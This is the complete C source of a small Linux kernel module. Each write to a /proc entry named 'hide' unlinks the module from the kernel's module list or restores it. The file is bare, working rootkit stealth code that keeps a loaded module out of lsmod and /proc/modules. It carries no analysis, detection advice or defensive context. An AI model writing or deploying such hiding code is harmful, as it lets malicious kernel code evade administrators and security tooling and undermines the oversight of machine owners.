/* A module takes itself off the list of modules, and puts itself back */
#include <linux/module.h>
#include <linux/list.h>
#include <linux/proc_fs.h>

static struct list_head *before;

static ssize_t set(struct file *file, const char __user *text, size_t count, loff_t *pos)
{
	if (before) {
		list_add(&THIS_MODULE->list, before);
		before = NULL;
	} else {
		before = THIS_MODULE->list.prev;
		list_del(&THIS_MODULE->list);
	}
	return count;
}
static const struct proc_ops ops = { .proc_write = set };

static int __init start(void)
{
	return proc_create("hide", 0200, NULL, &ops) ? 0 : -ENOMEM;
}

static void __exit finish(void)
{
	remove_proc_entry("hide", NULL);
}
module_init(start);
module_exit(finish);
MODULE_LICENSE("GPL");
